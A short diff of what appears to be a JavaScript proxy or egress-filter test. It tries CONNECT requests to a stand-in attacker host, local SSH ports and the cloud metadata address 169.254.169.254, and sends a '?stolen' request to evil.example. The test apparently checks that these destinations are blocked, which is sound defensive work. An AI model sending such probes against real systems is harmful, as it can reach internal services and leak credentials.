@@ -25,13 +25,7 @@ const direct = (options) =>
 
 report.registry = await asked({ path: `http://${address}:${registry}/evil` });
 report.others = [];
-for (const path of [
-  "evil.example:443",
-  `${address}:${registry}`,
-  "127.0.0.1:22",
-  "169.254.169.254:80",
-  "[::1]:22",
-])
+for (const path of ["evil.example:443", `${address}:22`, "127.0.0.1:22", "169.254.169.254:80", "[::1]:22"])
   report.others.push(await asked({ method: "CONNECT", path }));
 report.others.push(await asked({ path: "http://evil.example/?stolen" }));
 report.direct = [];
